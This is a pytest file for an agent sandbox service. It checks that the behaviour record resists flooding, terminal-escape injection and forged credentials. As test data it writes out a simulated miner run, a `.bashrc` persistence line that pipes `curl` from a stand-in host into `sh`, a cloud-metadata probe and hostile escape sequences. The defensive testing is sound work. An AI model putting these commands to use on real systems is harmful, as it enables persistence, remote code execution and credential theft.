"""Attacks on the behaviour record (issue 25 #7, #11, #12), against real servers and real sandboxes.

* **Drowning** (#7): a sandbox floods its own record (self-reports, execs) until the per-sandbox cap,
  then runs a miner, writes `.bashrc`, reaches for the cloud metadata address, and its tenant makes
  API calls. Each class of event keeps a reserved share, so the write, the connection and the calls
  are stored; the miner's exec, drowned in its own class, is not, but its flag is (flags are raised
  on every event seen); the record says it is incomplete; the flags outlive a restart of the server.
* **The reviewer's terminal** (#11): argv, file names and self-reports full of escape sequences and
  bidi overrides; the text report and the CLI print them escaped, and the FLAGS section stays.
* **Forged attribution** (#12): calls that carry a made-up access token, a stray `signature=` or an
  API key a keyless server never checks: the record names what the server verified.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from agentcell import Sandbox
from agentcell.record.store import RESERVED_SHARES
from tests.conftest import ServerProcess
from tests.egress_world import host_state
from tests.helpers import create_sandbox, wait_for_events

API_KEY = "record-attacks-" + os.urandom(6).hex()
TAG = f"acrec{os.getpid() % 100000}"
INET = f"{TAG}-inet"  # the egress uplink: a namespace with no route anywhere (nothing leaves the machine)
CAP = 2000


def _id(prefix: str, secret: str) -> str:
    return f"{prefix}:{hashlib.sha256(secret.encode()).hexdigest()[:12]}"


def _events(url: str, sid: str, api_key: str | None = None, within: float = 15,
            until: str = "sandbox.killed") -> list[dict[str, Any]]:
    return wait_for_events(lambda: Sandbox.events(sid, api_url=url, api_key=api_key),
                           lambda got: any(e["kind"] == until for e in got), timeout=within, interval=0.3)


# --- #7: the record cannot be drowned ------------------------------------------------------------------


class SmallRecordServer:
    """A keyed server whose sandboxes may keep CAP events each (no rate to speak of: the cap decides),
    with an egress uplink into a namespace of this module's that routes nowhere; `restart` starts a
    new one on the same state dir."""

    def __init__(self, logs: Path, state: Path) -> None:
        self.logs, self.state, self.starts = logs, state, 0
        self.server = self._start()

    def _start(self) -> ServerProcess:
        self.starts += 1
        server = ServerProcess(self.logs / f"server-{self.starts}.log", "--state-dir", str(self.state),
                               "--api-key", API_KEY, "--standbys", "1", "--events-per-sandbox", str(CAP),
                               "--events-rate", "100000", "--egress-uplink", f"netns:/run/netns/{INET}",
                               "--egress-dns", "198.51.100.53")
        server.wait_ready(300)
        return server

    @property
    def url(self) -> str:
        return self.server.url

    def restart(self) -> None:
        self.server.stop()
        self.server = self._start()


@pytest.fixture(scope="module")
def small_record(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SmallRecordServer]:
    if os.geteuid() != 0:
        pytest.skip("needs root (network namespaces)")
    before = host_state()
    subprocess.run(["ip", "netns", "add", INET], check=True)
    made = None
    try:
        subprocess.run(["ip", "-n", INET, "link", "set", "lo", "up"], check=True)
        made = SmallRecordServer(tmp_path_factory.mktemp("record"), tmp_path_factory.mktemp("record-state"))
        yield made
    finally:
        if made is not None:
            made.server.stop()
        subprocess.run(["ip", "netns", "del", INET], check=False)
        assert host_state() == before, "the host's network changed"


NOISE_AND_ATTACK = r"""
import json, os, socket, subprocess, time
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for i in range(4000):  # the sandbox's own reports: more than the whole cap
    s.sendto(json.dumps({"what": "noise", "i": i}).encode(), "\0agentcell-report")
subprocess.run(["sh", "-c", "for i in $(seq 400); do /bin/true; done"])  # its own execs
time.sleep(1.5)  # (the kernel tracer's per-second budget refills: the miner's exec reaches the store)
subprocess.run(["/bin/true", "xmrig", "-o", "stratum+tcp://pool.example:3333"])
with open("/home/user/.bashrc", "a") as f:
    f.write("curl -s http://pool.example/x | sh\n")
c = socket.socket()
c.settimeout(1)
try:
    c.connect(("169.254.169.254", 80))
except OSError as e:
    print(type(e).__name__)
"""


def test_a_flood_cannot_drown_the_record(small_record: SmallRecordServer) -> None:
    url = small_record.url
    neighbour = Sandbox.create(api_url=url, api_key=API_KEY, timeout=300)
    neighbour.run_code("canary = 'alive'")
    sbx = Sandbox.create(api_url=url, api_key=API_KEY, timeout=300)
    sid = sbx.sandbox_id
    try:
        ex = sbx.run_code(NOISE_AND_ATTACK, timeout=120)
        assert ex.error is None, ex.error
        time.sleep(1.5)  # the collectors' last events are in
        sbx.files.write("/home/user/after-the-noise.txt", "the tenant's own call")
        assert sbx.run_code("'still here'").text == "still here"
    finally:
        sbx.kill()
    events = _events(url, sid, API_KEY)
    assert len(events) < CAP + 100, len(events)  # the cap held (plus the store's own notes)
    kinds = [e["kind"] for e in events]
    # the noise was cut at its class's reserve and the shared part
    shared = CAP - sum(int(CAP * share) for share in RESERVED_SHARES.values())
    assert kinds.count("self.report") <= int(CAP * RESERVED_SHARES["self"]) + shared
    assert kinds.count("process.exec") + kinds.count("process.exit") <= int(CAP * RESERVED_SHARES["processes"]) + shared
    # every class the flood did not fill kept its reserve: each of these is in the record
    bashrc = [e for e in events if e["kind"].startswith("file.") and e.get("path") == "/home/user/.bashrc"]
    metadata = [e for e in events if e["kind"] in ("net.deny", "net.connect") and e.get("dst") == "169.254.169.254"]
    late_calls = [e for e in events if e["kind"] == "api.call" and e.get("path") == "/home/user/after-the-noise.txt"]
    assert bashrc, "the .bashrc write was drowned"
    assert metadata, "the metadata connection was drowned"
    assert late_calls and late_calls[0]["key_id"] == _id("token", sbx._conn.envd_headers["X-Access-Token"])
    assert any(e["kind"] == "api.call" and e["action"] == "run_code" and "still here" in e["code"]["excerpt"]
               for e in events)
    assert "sandbox.killed" in kinds
    # the miner's exec was drowned in its own class's flood: not stored, but flagged
    assert not any("xmrig" in " ".join(e.get("argv") or []) for e in events)
    flags = {f["flag"]: f for f in Sandbox.report(sid, api_url=url, api_key=API_KEY)["flags"]}
    assert flags["crypto-mining"]["not_stored"] >= 1, flags.get("crypto-mining")
    assert set(flags["persistence"]["events"]) & {e["seq"] for e in bashrc}
    assert set(flags["cloud-metadata"]["events"]) & {e["seq"] for e in metadata}
    assert flags["record-incomplete"]["count"] > 0
    assert {e["seq"] for e in events if e["kind"] == "record.dropped"} & set(flags["record-incomplete"]["events"])

    # the neighbour's record and state are its own; the server serves
    assert neighbour.run_code("canary").text == "alive"
    mine = list(Sandbox.events(neighbour.sandbox_id, api_url=url, api_key=API_KEY))
    assert not any(e["kind"] == "record.dropped" for e in mine)
    neighbour.kill()

    # the flags outlive the server: a new one on the same state dir reports them from the database
    small_record.restart()
    later = {f["flag"]: f for f in Sandbox.report(sid, api_url=small_record.url, api_key=API_KEY)["flags"]}
    assert {"crypto-mining", "persistence", "cloud-metadata", "record-incomplete"} <= set(later)
    assert later["crypto-mining"]["not_stored"] >= 1


# --- #12: attribution is what was verified -------------------------------------------------------------


def test_the_record_names_the_verified_credential_not_the_claimed_one(server_url: str, neighbour: Sandbox) -> None:
    with httpx.Client(base_url=server_url, timeout=60) as http:
        sbx = create_sandbox(http)
        sid, token, traffic = sbx["sandboxID"], sbx["envdAccessToken"], sbx["trafficAccessToken"]
        plane = {"E2b-Sandbox-Id": sid, "E2b-Sandbox-Port": "49999"}
        # the traffic token opens the call; a made-up access token rides along
        r = http.get("/contexts", headers={**plane, "E2B-Traffic-Access-Token": traffic, "X-Access-Token": "made-up"})
        assert r.status_code == 200
        # the traffic token alone, with a stray signature= in the query
        r = http.post("/contexts?signature=v1_forged", json={"language": "python"},
                      headers={**plane, "E2B-Traffic-Access-Token": traffic})
        assert r.status_code == 200
        # the real access token, with a stray signature= beside it
        r = http.get("/files", params={"path": "/etc/hostname", "signature": "v1_forged"},
                     headers={**plane, "E2b-Sandbox-Port": "49983", "X-Access-Token": token})
        assert r.status_code == 200
        # a keyless server checks no key: one a caller sends is not a caller's identity
        assert http.delete(f"/sandboxes/{sid}", headers={"X-API-KEY": "claimed-admin-key"}).status_code == 204
    events = _events(server_url, sid)
    calls = [(e["action"], e["key_id"]) for e in events if e["kind"] == "api.call"]
    assert calls == [("contexts.list", _id("traffic", traffic)), ("contexts.create", _id("traffic", traffic)),
                     ("files.read", _id("token", token)), ("sandbox.kill", "none")], calls
    assert events[0]["kind"] == "sandbox.created" and events[0]["key_id"] == "none"
    assert not any(token in json.dumps(e) or traffic in json.dumps(e) for e in events)
    assert neighbour.run_code("canary").text == "alive"


def test_a_keyed_server_records_the_key_it_checked(small_record: SmallRecordServer) -> None:
    server = small_record
    sbx = Sandbox.create(api_url=server.url, api_key=API_KEY, timeout=60)
    sbx.kill()
    r = httpx.delete(f"{server.url}/sandboxes/{sbx.sandbox_id}", headers={"X-API-KEY": "wrong"})
    assert r.status_code == 401
    events = _events(server.url, sbx.sandbox_id, API_KEY)
    assert events[0]["key_id"] == _id("key", API_KEY)
    assert [e["key_id"] for e in events if e["kind"] == "api.call"] == [_id("key", API_KEY)]  # the refused one: none
    assert httpx.get(f"{server.url}/health").status_code == 200


# --- #11: the reviewer's terminal ------------------------------------------------------------------------

HOSTILE_TEXT = ("\x1b[2J\x1b[H\x1b]0;owned\x07", "\u202eexe.txt", "\x9b31m", "line\rFLAGS cleared\x7f")
ESCAPES = r"""
import json, os, socket, subprocess
words = %r
subprocess.run(["/bin/true", *words])
for i, w in enumerate(words):
    open("/tmp/" + w.replace("/", "_") + str(i), "w").close()
open("/home/user/.bashrc", "a").write("# " + words[0])
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(json.dumps({"what": words[0]}).encode(), "\0agentcell-report")
"""
SPECIALS = ("\x1b", "\x07", "\x9b", "\x7f", "\r", "\u202e")


def test_text_outputs_escape_what_the_sandbox_wrote(server_url: str, neighbour: Sandbox) -> None:
    sbx = Sandbox.create(api_url=server_url, timeout=120, metadata={"label": "\x1b]0;title\x07\u202eevil"})
    sid = sbx.sandbox_id
    try:
        ex = sbx.run_code(ESCAPES % (HOSTILE_TEXT,))
        assert ex.error is None, ex.error
        deadline = time.monotonic() + 15
        while True:  # the hostile argv and file names are in the record
            got = list(Sandbox.events(sid, api_url=server_url))
            if any(e["kind"] == "process.exec" and HOSTILE_TEXT[0] in (e.get("argv") or []) for e in got) and \
                    any(e["kind"] == "file.create" and HOSTILE_TEXT[1] in str(e.get("path")) for e in got):
                break
            assert time.monotonic() < deadline, [e["kind"] for e in got]
            time.sleep(0.3)
        text = Sandbox.report(sid, format="text", api_url=server_url)
        assert not [c for c in SPECIALS if c in text], [c for c in SPECIALS if c in text]
        assert "\\x1b[2J" in text and "\\u202eexe.txt" in text  # shown, escaped
        assert "\nFLAGS\n" in text and "persistence" in text
        env = {**os.environ, "AGENTCELL_URL": server_url}
        for argv in (["report", sid], ["events", sid], ["report", sid, "--json"], ["ls"]):
            out = subprocess.run([sys.executable, "-m", "agentcell.cli", *argv], env=env, capture_output=True,
                                 text=True, timeout=60)
            assert out.returncode == 0, out.stderr
            assert not [c for c in SPECIALS if c in out.stdout], (argv, [c for c in SPECIALS if c in out.stdout])
            if argv[0] == "ls":
                assert "\\x1b]0;title" in out.stdout
        assert "FLAGS" in subprocess.run([sys.executable, "-m", "agentcell.cli", "report", sid], env=env,
                                         capture_output=True, text=True, timeout=60).stdout
    finally:
        sbx.kill()
    assert neighbour.run_code("canary").text == "alive"
